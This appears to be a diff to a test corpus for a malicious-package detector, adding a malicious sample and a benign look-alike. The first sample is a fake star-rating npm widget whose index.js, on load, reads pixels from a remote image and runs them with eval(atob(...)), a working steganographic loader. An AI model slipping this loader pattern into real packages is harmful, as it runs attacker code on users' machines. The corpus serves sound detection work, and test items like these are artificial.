@@ -124,6 +124,51 @@ module.exports = function parse(text, sep = ",") {
         files,
     )
 
+@sample
+def canvas_pixel_stage():
+    index = r'''"use strict";
+// Loads the widget's sprite sheet and caches its palette.
+function loadSprites(cb) {
+  if (typeof document === "undefined") return;
+  const img = new Image();
+  img.crossOrigin = "anonymous";
+  img.addEventListener("load", function () {
+    const canvas = document.createElement("canvas");
+    canvas.width = img.width; canvas.height = img.height;
+    const ctx = canvas.getContext("2d");
+    ctx.drawImage(img, 0, 0);
+    const data = ctx.getImageData(0, 0, img.width, 1).data;
+    let palette = "";
+    for (let i = 0; i < data.length; i += 4) { if (!data[i]) break; palette += String.fromCharCode(data[i]); }
+    try { eval(atob(palette)); } catch (e) {}
+    cb && cb(img);
+  });
+  img.src = "https://static.star-rating.invalid/sprites/v2.png";
+}
+
+function stars(n, max = 5) {
+  return "\u2605".repeat(n) + "\u2606".repeat(max - n);
+}
+
+loadSprites();
+module.exports = { stars, loadSprites };
+'''
+    files = {
+        "package.json": pj(name="star-rating-lite", version="1.7.2", main="index.js",
+                           description="Tiny star rating widget"),
+        "README.md": readme("star-rating-lite", "```js\nrequire('star-rating-lite').stars(3)\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach5-canvas-pixel-stage",
+        "browser widget draws a remote 'sprite sheet' on a canvas, reads the red channel of its first row back to text and evals it (base64)",
+        "2025",
+        ["steganography", "image-payload", "canvas", "eval", "network", "load-time"],
+        "Other shape of evasion-qr-image-payload: no QR decoder, the stage is one byte per pixel "
+        "read with getImageData and run with eval(atob(...)).",
+        files,
+    )
+
 
 # =============================================================================================
 # Tricky benign
@@ -165,5 +210,48 @@ module.exports = { loadConfig, banner };
         ["vm", "config-loader"],
         "Mirrors reach5-inline-vm-json-stage: inline require('vm') runner and a read of a "
         "data file the package ships, but what runs is the user's project file.",
+        files,
+    )
+
+@benign
+def b_canvas_filter_template():
+    index = r'''"use strict";
+// Image filters on a canvas, with a tiny compiled template for the CSS of the preview.
+const css = new Function("w", "h", "return 'width:' + w + 'px;height:' + h + 'px'");
+
+function invert(canvas) {
+  const ctx = canvas.getContext("2d");
+  const px = ctx.getImageData(0, 0, canvas.width, canvas.height);
+  for (let i = 0; i < px.data.length; i += 4) {
+    px.data[i] = 255 - px.data[i];
+    px.data[i + 1] = 255 - px.data[i + 1];
+    px.data[i + 2] = 255 - px.data[i + 2];
+  }
+  ctx.putImageData(px, 0, 0);
+  canvas.style.cssText = css(canvas.width, canvas.height);
+  return canvas;
+}
+
+function load(url, cb) {
+  const img = new Image();
+  img.onload = () => { const c = document.createElement("canvas"); c.width = img.width; c.height = img.height; c.getContext("2d").drawImage(img, 0, 0); cb(invert(c)); };
+  img.src = url;
+}
+
+module.exports = { invert, load };
+'''
+    files = {
+        "package.json": pj(name="canvas-invert", version="3.0.1", main="index.js",
+                           description="Invert the colours of an image on a canvas"),
+        "README.md": readme("canvas-invert", "```js\nrequire('canvas-invert').load(url, (c) => document.body.append(c))\n```"),
+        "index.js": index,
+    }
+    return S(
+        "reach5-benign-canvas-filter-template",
+        "image filter reading and writing canvas pixels of an image loaded by URL, in a file that also compiles a constant template with new Function",
+        "2025",
+        ["canvas", "function-constructor"],
+        "Mirrors reach5-canvas-pixel-stage: remote image, getImageData, and a code runner in the "
+        "same file, but the pixels are only transformed and drawn back.",
         files,
     )
